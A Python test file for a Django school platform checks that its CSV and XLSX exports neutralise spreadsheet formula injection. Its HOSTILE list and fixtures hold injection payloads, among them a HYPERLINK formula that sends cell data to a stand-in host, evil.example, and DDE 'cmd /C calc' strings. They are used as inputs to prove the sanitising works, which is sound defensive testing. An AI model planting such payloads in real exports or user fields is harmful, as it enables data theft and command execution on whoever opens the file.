"""Formula injection: every CSV/XLSX cell from people or the platform is written as text, neutralised (OWASP).

A cell that starts with = + - @, a tab or a carriage return gets a leading single quote; in XLSX it is also a
string cell (data type 's'), so no spreadsheet program takes it for a formula. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal
from fractions import Fraction

import openpyxl
import pytest
import time_machine
from django.urls import reverse

from chats.models import Chat
from chats.tests.scenario import ChatsWorld
from chats.tests.scenario import school_build
from classes.models import School
from classes.models import User
from classes.tests.factories import UserFactory
from classes.tests.scenario import LAST_WEEK
from classes.tests.scenario import SECOND_QUARTER_MONDAY as NOW
from classes.tests.scenario import municipal_admin
from classes.tests.scenario import school_admin
from reports.reconciliation.services import reconciliation_item_resolve
from reports.reconciliation.services import reconciliation_open
from reports.reconciliation.services import reconciliation_run
from reports.reconciliation.services import reconciliation_sign_off
from reports.reconciliation_export import reconciliation_export
from reports.services import weekly_activity_build
from reports.spreadsheet_cells import cell_value_neutralise
from reports.summaries import school_summaries_build

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&D20,"Открыть")'
HOSTILE = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


# The one function every cell goes through


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert cell_value_neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [0, -3, 2.5, -0.25, Decimal("-1.25"), Fraction(-1, 4), date(2026, 11, 9), None, True])
def test_numbers_dates_and_empty_cells_stay_as_they_are(value):
    assert cell_value_neutralise(value) is value


@pytest.mark.parametrize("text", ["Иванова", "5А", "", "a=b", "-12", "+7.5", "-1,25"])
def test_plain_text_and_numbers_written_as_text_stay_as_they_are(text):
    assert cell_value_neutralise(text) == text


# The table exports


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?$")


def assert_neutralised_xlsx(content: bytes, text: str) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    holding = [cell for cell in cells if text in str(cell.value)]
    assert any(cell.value.startswith("'" + text) for cell in holding), f"{text!r} is not neutralised"
    assert {cell.data_type for cell in holding} == {"s"}
    assert [cell.coordinate for cell in cells if cell.data_type == "s" and cell.value.startswith(FORMULA_STARTS)] == []
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []


def assert_neutralised_csv(content: bytes, text: str) -> None:
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    assert not text or any(cell.startswith("'" + text) for cell in cells), f"{text!r} is not neutralised"
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not NUMBER.match(cell)] == []


@pytest.fixture
def hostile_school():
    with time_machine.travel(NOW, tick=False):
        data = school_build(classes=2)
        School.objects.filter(pk=data.school.pk).update(full_name=HYPERLINK, short_name="@school")
        data.school.refresh_from_db()
        data.teachers[0].last_name = "=1+2"
        data.teachers[0].save()
        Chat.objects.filter(school=data.school).update(title="-2+3+cmd|' /C calc'!A0")
        weekly_activity_build(school=data.school, week_start=LAST_WEEK)
        yield data


@pytest.mark.parametrize(
    ("name", "text", "in_csv"),
    [
        ("school-classes-export", HYPERLINK, False),  # the school's full name in A2 (a CSV has no title)
        ("school-classes-export", "=1+2", True),  # the class teacher
        ("teacher-activity-export", "=1+2", True),
        ("chat-registry-export", "-2+3+cmd", True),
    ],
)
def test_the_table_exports_write_text_that_starts_a_formula_as_neutralised_text(
    client, hostile_school, name, text, in_csv
):
    # given
    client.force_login(school_admin(hostile_school.school))
    url = reverse(name, kwargs={"school_id": hostile_school.school.pk})
    with time_machine.travel(NOW, tick=False):
        # when
        xlsx = client.get(url, {"format": "xlsx"})
        text_csv = client.get(url, {"format": "csv"})
    # then
    assert_neutralised_xlsx(xlsx.content, text)
    if in_csv:
        assert_neutralised_csv(text_csv.content, text)
    else:
        assert_neutralised_csv(text_csv.content, "")  # no cell starts a formula


def test_the_municipal_export_neutralises_school_names_and_keeps_negative_changes_as_numbers(client, hostile_school):
    # given
    client.force_login(municipal_admin(hostile_school.school.municipality))
    with time_machine.travel(NOW, tick=False):
        school_summaries_build(schools=[hostile_school.school])  # the export reads the stored figures
        # when
        xlsx = client.get(reverse("municipal-export"), {"format": "xlsx"})
        text_csv = client.get(reverse("municipal-export"), {"format": "csv"})
    # then
    assert_neutralised_xlsx(xlsx.content, "@school")
    assert_neutralised_csv(text_csv.content, "@school")
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    numbers = [cell for row in sheet.iter_rows(min_row=6) for cell in row if cell.data_type == "n" and cell.value]
    assert numbers, "the rates and counts are numbers"


# The signed-off reconciliation


def test_the_reconciliation_xlsx_writes_a_platform_name_that_is_a_formula_as_neutralised_text():
    # given: a platform member who named themself a formula
    with time_machine.travel(NOW, tick=False):
        world = ChatsWorld()
        world.student("5А", "Смирнов", "Пётр")
        world.account(HYPERLINK, "Петр", "5А")
        world.account("@evil", "-1+1", "5А")
        admin = UserFactory(role=User.Role.SCHOOL_ADMIN, school=world.school, first_name="=Ольга", last_name="Завучева")
        reconciliation, _opened = reconciliation_open(school=world.school, quarter=world.quarters[2])
        reconciliation = reconciliation_run(reconciliation=reconciliation, user=admin)
        for item in reconciliation.items.all():
            reconciliation_item_resolve(item=item, resolution="not_an_error", user=admin)
        reconciliation = reconciliation_sign_off(reconciliation=reconciliation, user=admin)
        # when
        content, _filename = reconciliation_export(reconciliation=reconciliation, fmt="xlsx", user=admin)
    # then
    assert_neutralised_xlsx(content, HYPERLINK)
    assert_neutralised_xlsx(content, "@evil")
    assert_neutralised_xlsx(content, "=Ольга")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    counts = [
        cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "n" and cell.value is not None
    ]
    assert counts and all(isinstance(count, int) for count in counts)
